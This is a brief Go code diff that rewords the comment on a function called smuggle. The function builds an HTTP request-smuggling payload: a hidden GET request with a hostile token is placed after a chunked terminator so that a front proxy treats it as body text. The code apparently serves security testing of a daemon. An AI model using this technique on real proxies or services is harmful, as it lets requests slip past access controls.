@@ -7,8 +7,8 @@ import (
 	"time"
 )
 
-// smuggle hides a request behind another one whose header says in two ways where
-// its body ends. A proxy in front would let it pass as a body.
+// smuggle hides a request behind another one whose header gives two different ends of its body. A
+// proxy in front of the daemon would take the hidden one for a part of the body.
 func smuggle(t *target) (string, error) {
 	hidden := head("GET", "/v1/suites", hostileToken)
 	body := "0\r\n\r\n" + hidden
